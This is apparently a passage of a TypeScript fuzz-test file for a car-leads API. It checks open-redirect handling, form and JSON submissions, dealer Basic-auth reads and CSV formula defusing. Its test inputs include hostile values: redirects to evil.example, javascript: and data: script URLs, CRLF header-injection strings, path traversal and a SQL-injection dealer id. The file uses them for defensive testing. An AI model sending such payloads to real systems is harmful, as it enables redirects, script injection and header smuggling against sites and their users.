  if (
    Object.keys(json as object).join() !== 'reference' ||
    typeof reference !== 'string' ||
    !referenceFormat.test(reference)
  )
    problems.push(`a 201 body ${answer.body}`);
  if (answer.headers['idempotent-replayed']) problems.push('a first answer marked as replayed');
  const keyed = sent.headers['idempotency-key']?.trim() ? 1 : 0;
  if (after.leads !== before.leads + 1 || after.outbox !== before.outbox + 1 || after.keys !== before.keys + 1 + keyed)
    problems.push(`a 201 stored ${shownCounts(after)} after ${shownCounts(before)}`);
  const replay = await send(sent, options, handle);
  const afterReplay = countRows.get()!;
  if (replay.status !== 201 || replay.body !== answer.body || replay.headers['idempotent-replayed'] !== 'true')
    problems.push(`the replay answered ${replay.status} ${replay.body?.slice(0, 100) ?? ''}`);
  if (!sameCounts(after, afterReplay)) problems.push(`the replay stored ${shownCounts(afterReplay)}`);
  return problems;
}

/* ------------------------------------------------------------------------------------------------
 * POST as a plain form.
 * --------------------------------------------------------------------------------------------- */

type FormLabel = 'valid' | 'broken' | 'junk' | 'too large' | 'media type' | 'cross-site';

interface FormCase {
  label: FormLabel;
  field?: LeadField;
  body: string;
  contentType: string | undefined;
  key: string | undefined;
  site: string | undefined;
  /** The returnTo field as sent (undefined: none), and the path and query it must bring back when known. */
  returnTo: string | undefined;
  back: string | undefined;
  /** The run's limiters already block the client. */
  limited: boolean;
}

/** The form's string for a value (a checked box sends 'on'); undefined leaves the field out. */
function formValue(value: unknown): string | undefined {
  if (value === true) return 'on';
  if (typeof value === 'string') return value;
  return undefined;
}

const formBreakage = breakage.filter(({ value }) => value === absent || typeof value === 'string');

const legitReturns: ReadonlyArray<readonly [string, string]> = [
  ['/get-quotes', '/get-quotes'],
  ['/get-quotes?kind=quote&dealer=dealer-leeds-1', '/get-quotes?kind=quote&dealer=dealer-leeds-1'],
  ['/get-quotes/confirmation', '/get-quotes/confirmation'],
  ['/get-quotes?draft=old', '/get-quotes'],
  ['/get-quotes/./x/../', '/get-quotes/'],
  ['/partner-offers/gap-insurance', '/partner-offers/gap-insurance'],
  ['/partner-offers/car-warranty#form', '/partner-offers/car-warranty'],
  ['/partner-offers/car-finance?term=36', '/partner-offers/car-finance?term=36'],
];
/** Each goes back to the form itself. */
const hostileReturns = [
  'https://evil.example/get-quotes',
  'http://evil.example',
  'HTTPS://EVIL.EXAMPLE/get-quotes',
  'https:/evil.example/get-quotes',
  'https:evil.example',
  '//evil.example/get-quotes',
  '///evil.example/get-quotes',
  '////evil.example',
  '/\\evil.example/get-quotes',
  '\\\\evil.example',
  '\\/evil.example',
  '/\t/evil.example',
  '/%2F%2Fevil.example',
  '/%2f/evil.example',
  '/%5Cevil.example',
  '/get-quotes/../admin',
  '/get-quotes/%2e%2e/search-insights',
  '/get-quotes/%2E%2E/%2e%2E/api',
  '/get-quotes/%2e%2e',
  '/partner-offers/../search-insights',
  '/get-quotes/..',
  '/get-quotesevil',
  '/get-quotes@evil.example',
  '/partner-offers',
  '/search-insights',
  '/api/leads?x=1',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(document.domain)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '/get-quotes\r\nSet-Cookie: session=evil',
  '/get-quotes\nLocation: https://evil.example',
  '/get-quotes%0d%0aSet-Cookie:%20x=1',
  '/\u3000/evil.example',
  '\u2215\u2215evil.example',
  '/get-quotes\u0000',
  '',
  ' ',
  'get-quotes',
  '.',
  '/..',
  `/get-quotes?${'q'.repeat(2_000)}`,
];
const returnTo = weighted<{ returnTo?: string; back?: string }>(
  [1, fc.constant({ back: '/get-quotes' })],
  [3, pick(legitReturns).map(([value, back]) => ({ returnTo: value, back }))],
  [4, pick(hostileReturns).map((value) => ({ returnTo: value, back: '/get-quotes' }))],
  [
    3,
    fc
      .tuple(
        pick([
          '',
          '/',
          '//',
          '/get-quotes',
          '/get-quotes/',
          '/get-quotes?',
          '/partner-offers/',
          'https://evil.example',
          '/\\',
          '%2F%2F',
        ]),
        weighted(
          [3, hostileText],
          [2, brokenEncoding],
          [1, pick(['..', '../..', '%2e%2e/', '..%2f', '@evil.example', '#//evil'])],
        ),
      )
      .map(([prefix, rest]) => ({ returnTo: prefix + rest })),
  ],
  [1, hostileText.map((value) => ({ returnTo: value }))],
);

const formTypes = weighted<string | undefined>(
  [6, fc.constant('application/x-www-form-urlencoded')],
  [1, pick(['application/x-www-form-urlencoded; charset=UTF-8', 'APPLICATION/X-WWW-FORM-URLENCODED'])],
);
const anyKey = maybe(0.5, weighted([2, keyToken], [1, badKey], [1, hostileText.map(headerSafe)]));
/** Extra pairs no lead field can decode to (their names start with x), some with broken encodings. */
const formExtras = fc.array(
  weighted<string>(
    [
      2,
      fc.tuple(hostileText, hostileText).map(([name, value]) => new URLSearchParams([[`x${name}`, value]]).toString()),
    ],
    [1, fc.tuple(brokenEncoding, brokenEncoding).map(([name, value]) => `x${name}=${value}`)],
  ),
  { maxLength: 3 },
);

/** The form's body: the pairs encoded as browsers do (or with %20), then the extras. */
function formText(
  pairs: ReadonlyArray<readonly [string, string]>,
  style: 'form' | 'component',
  more: readonly string[],
): string {
  const encoded =
    style === 'form'
      ? new URLSearchParams(pairs.map(([name, value]) => [name, value])).toString()
      : pairs
          .map(([name, value]) => `${encodeURIComponent(wellFormed(name))}=${encodeURIComponent(wellFormed(value))}`)
          .join('&');
  return [encoded, ...more].filter(Boolean).join('&');
}

function leadPairs(
  lead: Lead,
  hidden: { key?: string | undefined; returnTo?: string | undefined },
): Array<[string, string]> {
  const pairs: Array<[string, string]> = [];
  for (const field of leadFields) {
    const value = formValue(lead[field]);
    if (value !== undefined) pairs.push([field, value]);
  }
  if (hidden.key !== undefined) pairs.push(['idempotencyKey', hidden.key]);
  if (hidden.returnTo !== undefined) pairs.push(['returnTo', hidden.returnTo]);
  return pairs;
}

const formParts = {
  hiddenKey: anyKey,
  headerKey: maybe(0.2, weighted([2, keyToken], [1, badKey])),
  where: returnTo,
  more: formExtras,
  style: pick(['form', 'component'] as const),
  contentType: formTypes,
  site: benignSite,
  limited: coin(0.05),
};

const formCase: fc.Arbitrary<FormCase> = weighted<FormCase>(
  [
    30,
    fc
      .record({ lead: validLeadArbitrary, ...formParts })
      .map(({ lead, hiddenKey, headerKey, where, more, style, ...rest }): FormCase => ({
        label: 'valid',
        body: formText(leadPairs(lead, { key: hiddenKey, returnTo: where.returnTo }), style, more),
        key: headerKey,
        returnTo: where.returnTo,
        back: where.back,
        ...rest,
      })),
  ],
  [
    45,
    fc
      .record({ lead: validLeadArbitrary, broke: formBreakage, shadowed: coin(0.2), ...formParts })
      .map(({ lead, broke, shadowed, hiddenKey, headerKey, where, more, style, ...rest }): FormCase => {
        const pairs = leadPairs(broken(lead, broke), { key: hiddenKey, returnTo: where.returnTo });
        // A form keeps the first of a duplicate: the valid value after the broken one changes nothing.
        const valid = formValue(lead[broke.field]);
        if (shadowed && broke.value !== absent && valid !== undefined) pairs.push([broke.field, valid]);
        return {
          label: 'broken',
          field: broke.field,
          body: formText(pairs, style, more),
          key: headerKey,
          returnTo: where.returnTo,
          back: where.back,
          ...rest,
        };
      }),
  ],
  [
    10,
    fc
      .record({
        body: weighted(
          [2, hostileText],
          [
            2,
            fc
              .array(weighted([3, brokenEncoding], [1, pick(['&', '=', '&&', '=='])]), { maxLength: 12 })
              .map((parts) => parts.join('')),
          ],
          [
            1,
            fc
              .tuple(validLeadArbitrary, returnTo)
              .map(([lead, where]) => formText(leadPairs(lead, where), 'form', []) + '&%'),
          ],
          [1, fc.string({ unit: 'binary-ascii', maxLength: 200 })],
        ),
        ...formParts,
      })
      .map(({ body, headerKey, contentType, site, limited }): FormCase => ({
        label: 'junk',
        body,
        key: headerKey,
        contentType,
        site,
        limited,
        returnTo: undefined,
        back: undefined,
      })),
  ],
  [
    4,
    fc
      .record({ lead: validLeadArbitrary, ...formParts })
      .map(({ lead, hiddenKey, headerKey, where, style, ...rest }): FormCase => {
        const text = formText(leadPairs(lead, { key: hiddenKey, returnTo: where.returnTo }), style, []);
        return {
          label: 'too large',
          body: `${text}&pad=${'a'.repeat(leadBodyLimit)}`,
          key: headerKey,
          returnTo: where.returnTo,
          back: undefined,
          ...rest,
        };
      }),
  ],
  [
    3,
    fc
      .record({
        lead: validLeadArbitrary,
        ...formParts,
        contentType: pick([undefined, 'multipart/form-data; boundary=----x', 'text/plain']),
      })
      .map(({ lead, hiddenKey, headerKey, where, style, ...rest }): FormCase => ({
        label: 'media type',
        body: formText(leadPairs(lead, { key: hiddenKey, returnTo: where.returnTo }), style, []),
        key: headerKey,
        returnTo: where.returnTo,
        back: undefined,
        ...rest,
      })),
  ],
  [
    2,
    fc
      .record({ lead: validLeadArbitrary, ...formParts, site: pick(['cross-site', 'CROSS-SITE']) })
      .map(({ lead, hiddenKey, headerKey, where, style, more, ...rest }): FormCase => ({
        label: 'cross-site',
        body: formText(leadPairs(lead, { key: hiddenKey, returnTo: where.returnTo }), style, more),
        key: headerKey,
        returnTo: where.returnTo,
        back: undefined,
        ...rest,
      })),
  ],
);

const confirmationLocation = /^\/get-quotes\/confirmation\?reference=KS-[0-9A-HJKMNP-TV-Z]{8}$/;

/**
 * The problems of a 303's Location: a path on this site (printable ASCII, one leading slash, no
 * backslash) that stays on the site and under /get-quotes or /partner-offers/ wherever a browser
 * resolves it from, and is already in its resolved form (no dot segment left for a browser to undo).
 */
function locationProblems(location: unknown): string[] {
  if (typeof location !== 'string') return ['a 303 without a Location'];
  const problems: string[] = [];
  if (!/^[\x21-\x7e]+$/.test(location))
    problems.push(`a Location with characters outside printable ASCII: ${JSON.stringify(location)}`);
  if (!location.startsWith('/') || location.startsWith('//'))
    problems.push(`a Location that is not a path on this site: ${location}`);
  if (location.includes('\\')) problems.push(`a backslash in the Location: ${location}`);
  for (const base of ['https://www.kerbside.example/api/leads', 'https://www.kerbside.example/get-quotes/a/b/']) {
    let url: URL;
    try {
      url = new URL(location, base);
    } catch {
      problems.push(`a Location no browser can resolve: ${location}`);
      break;
    }
    if (url.origin !== 'https://www.kerbside.example') problems.push(`a Location that leaves the site: ${location}`);
    const path = url.pathname;
    if (!(path === '/get-quotes' || path.startsWith('/get-quotes/') || path.startsWith('/partner-offers/')))
      problems.push(`a Location outside the form's pages: ${location}`);
    if (url.pathname + url.search + url.hash !== location)
      problems.push(`a Location not in its resolved form: ${location}`);
  }
  return problems;
}

async function formProblems(
  c: FormCase,
  handle: Handle = handleLeadsRequest,
): Promise<{ status: number; problems: string[] }> {
  const before = freshCounts();
  const sent: Sent = {
    body: c.body,
    headers: { 'content-type': c.contentType, 'idempotency-key': c.key, 'sec-fetch-site': c.site },
  };
  const options = runOptions(c.limited);
  const answer = await send(sent, options, handle);
  const after = countRows.get()!;
  const problems = commonProblems(answer);
  const location = answer.headers.location;
  if (answer.status === 303) problems.push(...locationProblems(location));
  else if (location !== undefined) problems.push(`a ${answer.status} with a Location`);

  const expected =
    c.label === 'cross-site'
      ? 403
      : c.label === 'media type'
        ? 415
        : c.label === 'too large' || overLimit(c.body)
          ? 413
          : c.limited
            ? 429
            : 303;
  if (expected !== 303) {
    problems.push(...errorAnswerProblems(answer, expected));
    if (expected === 429 && !(Number(answer.headers['retry-after']) > 0)) problems.push('a 429 without Retry-After');
  } else if (answer.status !== 303) {
    problems.push(`status ${answer.status}, expected 303 (${answer.body?.slice(0, 200) ?? ''})`);
  } else if (!problems.length) {
    const confirmed = confirmationLocation.test(location!);
    if (c.label === 'valid' && !confirmed) problems.push(`a valid lead sent back to ${location}`);
    if (c.label === 'broken' && confirmed) problems.push(`a lead with a broken ${c.field} was stored`);
    if (confirmed) {
      if (after.leads !== before.leads + 1 || after.outbox !== before.outbox + 1)
        problems.push(`a confirmation after storing ${shownCounts(after)} (before: ${shownCounts(before)})`);
      const again = await send(sent, options, handle);
      if (again.headers.location !== location || again.headers['idempotent-replayed'] !== 'true')
        problems.push(`the same form sent again went to ${again.headers.location}`);
      if (!sameCounts(after, countRows.get()!)) problems.push('the same form sent again stored more');
    } else {
      problems.push(...(await draftProblems(c, location!, before, after)));
    }
  }
  if (answer.status !== 303 && !sameCounts(before, after)) problems.push(`a ${answer.status} stored a lead`);
  return { status: answer.status, problems };
}

/** A 303 back to the form: one draft (no lead) whose errors name the broken field, at the expected path. */
async function draftProblems(c: FormCase, location: string, before: Counts, after: Counts): Promise<string[]> {
  const problems: string[] = [];
  if (!sameCounts(before, after)) problems.push(`a draft answer stored ${shownCounts(after)}`);
  if (after.drafts !== before.drafts + 1) problems.push(`${after.drafts - before.drafts} drafts written`);
  const url = new URL(location, 'https://www.kerbside.example');
  const ids = url.searchParams.getAll('draft');
  if (ids.length !== 1 || !leadDraftIdPattern.test(ids[0]!)) return [...problems, `draft ids ${JSON.stringify(ids)}`];
  url.searchParams.delete('draft');
  if (c.back !== undefined && url.pathname + url.search !== c.back)
    problems.push(`went back to ${url.pathname + url.search}, expected ${c.back}`);
  if (c.label === 'broken') {
    const draft = await readLeadDraft(db, ids[0], at);
    const named = Object.keys(draft?.errors ?? {});
    if (named.join() !== c.field)
      problems.push(`the draft's errors name ${JSON.stringify(named)}, expected ${c.field}`);
  }
  return problems;
}

/* ------------------------------------------------------------------------------------------------
 * GET: a dealer reads its leads.
 * --------------------------------------------------------------------------------------------- */

const password = (dealer: string) => dealerLeadsPassword(secret, dealer);

/** How a run authenticates; the header is made from the dealer the handler will read. */
type AuthRecipe =
  | { kind: 'none' }
  | { kind: 'garbage'; header: string }
  | { kind: 'wrong user'; user: string }
  | { kind: 'wrong password'; password: string }
  | { kind: 'secret' }
  | { kind: 'other dealer' }
  | { kind: 'right'; scheme: string; gap: string; encoding: 'base64' | 'base64url' | 'unpadded' };

const basic = (user: string, pass: string, encoding: BufferEncoding = 'base64') =>
  `Basic ${Buffer.from(`${user}:${pass}`, 'utf8').toString(encoding)}`;

function authorizationOf(recipe: AuthRecipe, dealer: string): string | undefined {
  switch (recipe.kind) {
    case 'none':
      return undefined;
    case 'garbage':
      return recipe.header;
    case 'wrong user':
      return basic(recipe.user === dealer ? 'admin' : recipe.user, password(dealer));
    case 'wrong password':
      return basic(dealer, recipe.password === password(dealer) ? 'guess' : recipe.password);
    case 'secret':
      return basic(dealer, secret);
    case 'other dealer':
      return basic(dealer, password(dealer === dealerIds[0] ? dealerIds[1] : dealerIds[0]));
    case 'right': {
      const encoded = Buffer.from(`${dealer}:${password(dealer)}`, 'utf8').toString(
        recipe.encoding === 'base64url' ? 'base64url' : 'base64',
      );
      return `${recipe.scheme}${recipe.gap}${recipe.encoding === 'unpadded' ? encoded.replace(/=+$/, '') : encoded}`;
    }
  }
}

const authRecipe = weighted<AuthRecipe>(
  [2, fc.constant<AuthRecipe>({ kind: 'none' })],
  [
    2,
    weighted(
      [
        2,
        pick([
          'Basic',
          'Basic !!!!',
          'Basic ====',
          'Bearer 0123456789abcdef',
          'Digest username="dealer-leeds-1"',
          `Basic ${'A'.repeat(1_100)}`,
          'Basic%20ZGVhbGVy',
          'Basic ZGVhbGVyLWxlZWRzLTE6', // 'dealer-leeds-1:' (no password)
        ]),
      ],
      [1, fc.uint8Array({ maxLength: 48 }).map((bytes) => `Basic ${Buffer.from(bytes).toString('base64')}`)],
      [1, hostileText.map(headerSafe)],
    ).map((header): AuthRecipe => ({ kind: 'garbage', header })),
  ],
  [
    1,
    pick(['admin', '', 'DEALER-LEEDS-1', 'dealer-leeds-1 ', 'kerbside', dealerIds[1]]).map((user): AuthRecipe => ({
      kind: 'wrong user',
      user,
    })),
  ],
  [
    1,
    pick(['', 'guess', 'password', password(dealerIds[0]).slice(0, -1), `${password(dealerIds[0])}x`]).map(
      (pass): AuthRecipe => ({ kind: 'wrong password', password: pass }),
    ),
  ],
  [1, fc.constant<AuthRecipe>({ kind: 'secret' })],
  [1, fc.constant<AuthRecipe>({ kind: 'other dealer' })],
  [
    5,
    fc
      .record({
        scheme: pick(['Basic', 'Basic', 'basic', 'BASIC']),
        gap: pick([' ', ' ', '  ', '\t']),
        encoding: pick(['base64', 'base64url', 'unpadded'] as const),
      })
      .map((parts): AuthRecipe => ({ kind: 'right', ...parts })),
  ],
);

const dealerValue = weighted<string | undefined>(
  [6, pick(dealerIds)],
  [2, pick(partnerList)],
  [1, pick(['DEALER-LEEDS-1', ' dealer-york-2 ', 'dealer-atlantis-9', 'a', 'A:b.c_d-e'])],
  [1, fc.stringMatching(leadIdPattern)],
  [1, fc.constant(undefined)],
  [
    1,
    pick([
      '',
      ' ',
      '../x',
      'dealer leeds',
      '-x',
      '.x',
      'x'.repeat(101),
      'dealer/1',
      'dealer-leeds-1\u0000',
      "1' OR '1'='1",
    ]),
  ],
  [1, hostileText],
);
const formatValue = weighted<string | undefined>(
  [5, fc.constant(undefined)],
  [3, pick(['json', 'csv'])],
  [1, pick(['CSV', 'Json', 'xml', '', ' csv', 'csv ', 'text/csv', 'csv,json'])],
  [1, hostileText],
);
/** Accept headers, and whether they rank CSV above JSON (undefined: not decided here). */
const acceptValue = weighted<readonly [string | undefined, boolean | undefined]>(
  [4, fc.constant([undefined, false] as const)],
  [
    3,
    pick([
      ['text/csv', true],
      ['TEXT/CSV', true],
      ['application/json', false],
      ['text/csv, application/json', false],
      ['application/json;q=0.5, text/csv', true],
      ['text/csv;q=0.9, application/json;q=0.8', true],
      ['text/csv;q=0', false],
      ['text/csv;q=abc', false],
      ['*/*', false],
      ['text/*', false],
    ] as const),
  ],
  [1, hostileText.map((text) => [headerSafe(text), undefined] as const)],
);

interface GetCase {
  method: 'GET' | 'HEAD';
  dealer: string | undefined;
  format: string | undefined;
  /** Raw query pieces appended (duplicates come after, and are ignored). */
  more: readonly string[];
  formatFirst: boolean;
  accept: readonly [string | undefined, boolean | undefined];
  auth: AuthRecipe;
  tripped: boolean;
}

const getCase: fc.Arbitrary<GetCase> = fc.record({
  method: weighted<'GET' | 'HEAD'>([9, fc.constant('GET')], [1, fc.constant('HEAD')]),
  dealer: dealerValue,
  format: formatValue,
  more: fc.array(
    weighted<string>(
      [
        2,
        fc
          .tuple(pick(['dealer', 'format', 'x']), hostileText)
          .map(([name, value]) => new URLSearchParams([[name, value]]).toString()),
      ],
      [1, fc.tuple(brokenEncoding, brokenEncoding).map(([name, value]) => `${name}=${value}`)],
    ),
    { maxLength: 2 },
  ),
  formatFirst: coin(0.3),
  accept: acceptValue,
  auth: authRecipe,
  tripped: coin(0.05),
});

function queryOf(c: GetCase): string {
  const pairs: Array<[string, string]> = [];
  if (c.dealer !== undefined) pairs.push(['dealer', c.dealer]);
  if (c.format !== undefined) pairs[c.formatFirst ? 'unshift' : 'push'](['format', c.format]);
  return [new URLSearchParams(pairs).toString(), ...c.more].filter(Boolean).join('&');
}

/** A cell as leadsCsv must write it: a leading ' before = + - @ tab or CR (docs/leads.md). */
const defused = (value: unknown) => {
  const text = value === null || value === undefined ? '' : String(value);
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
};

/** RFC 4180 rows (CRLF line ends, quoted cells with doubled quotes), or the first problem. */
function parseCsv(text: string): { rows: string[][]; problem?: string } {
  const rows: string[][] = [];
  let row: string[] = [];
  let index = 0;
  if (!text.endsWith('\r\n')) return { rows, problem: 'the CSV does not end with CRLF' };
  while (index < text.length) {
    let cell = '';
    if (text[index] === '"') {
      index += 1;
      for (;;) {
        if (index >= text.length) return { rows, problem: 'an unterminated quoted cell' };
        if (text[index] === '"') {
          if (text[index + 1] !== '"') break;
          index += 1;
        }
        cell += text[index];
        index += 1;
      }
      index += 1;
    } else {
      while (index < text.length && !',\r\n'.includes(text[index]!)) {
        if (text[index] === '"') return { rows, problem: 'a quote in an unquoted cell' };
        cell += text[index];
        index += 1;
      }
    }
    row.push(cell);
    if (text[index] === ',') {
      index += 1;
    } else if (text.startsWith('\r\n', index)) {
      index += 2;
      rows.push(row);
      row = [];
    } else {
      return { rows, problem: `a stray character ${JSON.stringify(text[index])} at ${index}` };
    }
  }
  return { rows };
}

/** The problems of a CSV answer: the header row, one row per stored lead in order, every cell defused. */
function csvProblems(body: string, leads: readonly StoredLead[]): string[] {
  const { rows, problem } = parseCsv(body);
  if (problem) return [problem];
  const problems: string[] = [];
  if (rows[0]?.join() !== leadCsvColumns.join()) problems.push(`the header row ${JSON.stringify(rows[0])}`);
  if (rows.length !== leads.length + 1) problems.push(`${rows.length - 1} rows for ${leads.length} leads`);
  rows.slice(1).forEach((row, n) => {
    row.forEach((cell, column) => {
      if (/^[=+\-@\t\r]/.test(cell)) problems.push(`a cell that starts a formula: ${JSON.stringify(cell)}`);
      const name = leadCsvColumns[column];
      const lead = leads[n];
      if (name && lead && cell !== defused(lead[name]))
        problems.push(`${name} ${JSON.stringify(cell)}, stored ${JSON.stringify(lead[name])}`);
    });
    if (row.length !== leadCsvColumns.length) problems.push(`a row of ${row.length} cells`);
  });
  return problems;
}

async function getProblems(
  c: GetCase,
  handle: Handle = handleLeadsRequest,
): Promise<{ status: number; problems: string[] }> {
  const query = queryOf(c);
  const params = new URL(`http://localhost/api/leads?${query}`).searchParams;
  const dealer = (params.get('dealer') ?? '').trim();
  const format = params.get('format');
  const [accept, wantsCsv] = c.accept;
  const sent: Sent = {
    method: c.method,
    query,
    headers: { authorization: authorizationOf(c.auth, dealer), accept },
  };
  const answer = await send(sent, runOptions(c.tripped), handle);
  const problems = commonProblems(answer);
  const head = c.method === 'HEAD';
  if (head && answer.body !== null) problems.push('a HEAD answer with a body');
  const expected = !leadIdPattern.test(dealer)
    ? { status: 400, mention: 'dealer' }
    : format !== null && format !== 'json' && format !== 'csv'
      ? { status: 400, mention: 'format' }
      : c.tripped
        ? { status: 429 }
        : c.auth.kind === 'right'
          ? { status: 200 }
          : { status: 401 };
  if (answer.status !== expected.status) {
    problems.push(`status ${answer.status}, expected ${expected.status} (${answer.body?.slice(0, 200) ?? ''})`);
    return { status: answer.status, problems };
  }
  if (expected.status === 401 && !/^Basic realm="leads"/.test(answer.headers['www-authenticate'] ?? ''))
    problems.push('a 401 without WWW-Authenticate');
  if (expected.status === 429 && !(Number(answer.headers['retry-after']) > 0))
    problems.push('a 429 without Retry-After');
  if (expected.status !== 200) {
    if (!head) {
      problems.push(...errorAnswerProblems(answer, expected.status, expected.mention));
      if (expected.mention && errorOf(jsonBody(answer).json).parameter !== expected.mention)
        problems.push(`the 400 does not give ${expected.mention} as its parameter`);
    }
    return { status: answer.status, problems };
  }
  const stored = await leadsForDealer(db, dealer);
  const csv = answer.headers['content-type']?.startsWith('text/csv') ?? false;
  const csvExpected = format === 'csv' || (format === null && wantsCsv);
  if (format !== null || wantsCsv !== undefined) {
    if (csv !== csvExpected)
      problems.push(`answered ${csv ? 'CSV' : 'JSON'} for format ${format} and Accept ${accept}`);
  }
  if (head) return { status: answer.status, problems };
  if (csv) problems.push(...csvProblems(answer.body ?? '', stored));
  else {
    const { json, problem } = jsonBody(answer);
    if (problem) problems.push(problem);
    else {
      const items = (json as { items?: StoredLead[] }).items;
      if (!Array.isArray(items) || JSON.stringify(items) !== JSON.stringify(stored))
        problems.push(`items differ from the dealer's ${stored.length} stored leads`);
      else if (items.some((item) => item.dealerId !== dealer)) problems.push("another dealer's lead");
    }
  }
  return { status: answer.status, problems };
}

/** Hostile leads stored through the API for every dealer and partner (emptied first), and the fixed formula ones. */
async function storeHostileLeads(seed: number): Promise<number> {
  db.exec('DELETE FROM lead_idempotency; DELETE FROM lead_outbox; DELETE FROM leads;');
  const sample = fc.sample(validLeadArbitrary, { numRuns: 150, seed });
  const fixed = [...dealerIds, ...partnerList].flatMap((dealer) => {
    const kind = partnerPairs.find(([, partner]) => partner === dealer)?.[0] ?? 'quote';
    return formulaTexts.map((text, n) =>
      validLead({
        kind,
        dealerId: dealer,
        name: text,
        message: formulaTexts[(n + 3) % formulaTexts.length],
        email: `${text.replace(/[^=+\-a-z0-9]/gi, '')}${n}@example.com`,
      }),
    );
  });
  let clock = at.getTime();
  let stored = 0;
  for (const lead of [...sample, ...fixed]) {
    clock += 1_000;
    const answer = await handleLeadsRequest(
      {
        method: 'POST',
        url: 'http://localhost/api/leads',
        headers: new Headers({ 'content-type': 'application/json', 'x-forwarded-for': client }),
        readBody: async () => ({ ok: true, text: jsonText(lead as Lead, [], ',') }),
      },
      { ...runOptions(), now: () => new Date(clock) },
    );
    if (answer.status !== 201)
      throw new Error(`a hostile lead was refused (${answer.status} ${answer.body}): ${JSON.stringify(lead)}`);
    stored += 1;
  }
  return stored;
}

/* ------------------------------------------------------------------------------------------------
 * A hostile lead posted, then read back.
 * --------------------------------------------------------------------------------------------- */

/** What the dealer must read back: trimmed, blank optional fields null, the postcode normalised, the stored dealer id. */
function expectedStored(lead: Lead): Record<string, unknown> {
  const text = (value: unknown) => (typeof value === 'string' && value.trim() ? wellFormed(value.trim()) : null);
  const dealer = String(lead.dealerId).trim();
  const postcode = validatePostcode(String(lead.postcode));
  return {
    kind: lead.kind,
    dealerId: dealerIds.find((id) => id.toLowerCase() === dealer.toLowerCase()) ?? dealer,
    name: text(lead.name),
    email: text(lead.email),
    phone: text(lead.phone),
    postcode: postcode.ok ? postcode.postcode : null,
    message: text(lead.message),
    consent: true,
    derivativeId: text(lead.derivativeId),
    dealId: text(lead.dealId),
    advertId: text(lead.advertId),
  };
}

async function roundTripProblems(lead: Lead): Promise<string[]> {
  freshCounts();
  const options = runOptions();
  const posted = await send(
    { body: jsonText(lead, [], ','), headers: { 'content-type': 'application/json' } },
    options,
  );
  const reference = (jsonBody(posted).json as { reference?: string } | undefined)?.reference;
  if (posted.status !== 201 || !reference) return [`posted: ${posted.status} ${posted.body}`];
  // The row itself (the GET property shows the JSON items are the stored rows), then its CSV through the API.
  const row = await leadByReference(db, reference);
  if (!row) return ['no lead stored under the reference'];
  const { reference: stored, createdAt, ...item } = row as unknown as Record<string, unknown>;
  const problems: string[] = [];
  if (stored !== reference || createdAt !== at.toISOString())
    problems.push(`stored as ${String(stored)} at ${String(createdAt)}`);
  const expected = expectedStored(lead);
  for (const [field, value] of Object.entries(expected))
    if (item[field] !== value)
      problems.push(
        `${field}: stored ${JSON.stringify(item[field])}, sent ${JSON.stringify(lead[field as LeadField])}`,
      );
  const dealer = String(expected.dealerId);
  const csv = await send(
    {
      method: 'GET',
      query: `dealer=${encodeURIComponent(dealer)}&format=csv`,
      headers: { authorization: basic(dealer, password(dealer)) },
    },
    options,
  );
  if (csv.status !== 200) return [...problems, `read back: ${csv.status} ${csv.body?.slice(0, 200)}`];
  problems.push(...csvProblems(csv.body ?? '', [row]));
  return problems;
}

/* ------------------------------------------------------------------------------------------------
 * The properties.
 * --------------------------------------------------------------------------------------------- */

interface Tally {
  statuses: Map<number, number>;
  labels: Map<string, number>;
}

async function fuzz<T>(
  arbitrary: fc.Arbitrary<T>,
  run: (value: T) => Promise<{ status: number; problems: string[] }>,
  labelOf: (value: T) => string,
  extra: fc.Parameters<[T]> = {},
  runs = perProperty,
): Promise<Tally> {
  const tally: Tally = { statuses: new Map(), labels: new Map() };
  const started = process.cpuUsage();
  await assertFuzz(
    fc.asyncProperty(arbitrary, async (value) => {
      let outcome: { status: number; problems: string[] };
      try {
        outcome = await run(value);
      } catch (error) {
        outcome = { status: 0, problems: [`threw ${(error as Error).stack ?? String(error)}`] };
      }
      tally.statuses.set(outcome.status, (tally.statuses.get(outcome.status) ?? 0) + 1);
      const label = labelOf(value);
      tally.labels.set(label, (tally.labels.get(label) ?? 0) + 1);
      if (outcome.problems.length) throw new Error(outcome.problems.join('; '));
    }),
    runs,
    extra,
  );
  const used = process.cpuUsage(started);
  const show = (map: Map<string | number, number>) =>
    [...map]
      .sort(([a], [b]) => String(a).localeCompare(String(b)))
      .map(([key, n]) => `${key}:${n}`)
      .join(' ');
  console.log(
    `${expect.getState().currentTestName}: ${show(tally.statuses)}; ${show(tally.labels)}; ${Math.round((used.user + used.system) / 1000)} ms CPU`,
  );
  return tally;
}

const share = (tally: Tally, test: (status: number) => boolean) =>
  [...tally.statuses].filter(([status]) => test(status)).reduce((sum, [, n]) => sum + n, 0);

describe(`fuzz: ${perProperty.toLocaleString('en-GB')} generated requests per property against handleLeadsRequest`, () => {
  it(
    'POST JSON: no 5xx; 201 stores one lead once; one broken field is a 400 naming it; nothing stored on a 4xx',
    async () => {
      const tally = await fuzz(
        jsonCase,
        (c) => jsonProblems(c),
        (c) => c.label,
      );
      expect(share(tally, (status) => status === 201)).toBeGreaterThan(perProperty * 0.2);
      expect(share(tally, (status) => status === 400)).toBeGreaterThan(perProperty * 0.4);
      for (const status of [403, 413, 415]) expect(tally.statuses.get(status)).toBeGreaterThan(0);
    },
    timeout,
  );

  it(
    'POST form: no 5xx; only 303 (or 403/413/415/429), and every Location a path under /get-quotes or /partner-offers/',
    async () => {
      const tally = await fuzz(
        formCase,
        (c) => formProblems(c),
        (c) => (c.limited ? `${c.label} (limited)` : c.label),
      );
      expect(share(tally, (status) => status === 303)).toBeGreaterThan(perProperty * 0.7);
      for (const status of [403, 413, 415, 429]) expect(tally.statuses.get(status)).toBeGreaterThan(0);
    },
    timeout,
  );

  it(
    'GET: 400 for a bad dealer or format, else 401 (429 when tripped) without the dealer’s credentials, 200 with them; no CSV cell starts a formula',
    async () => {
      const seed = fuzzParameters(1).seed ?? Date.now();
      await storeHostileLeads(seed);
      const tally = await fuzz(
        getCase,
        (c) => getProblems(c),
        (c) => c.auth.kind,
        { seed },
      );
      expect(share(tally, (status) => status === 200)).toBeGreaterThan(perProperty * 0.1);
      expect(share(tally, (status) => status === 401)).toBeGreaterThan(perProperty * 0.1);
      for (const status of [400, 429]) expect(tally.statuses.get(status)).toBeGreaterThan(0);
    },
    timeout,
  );

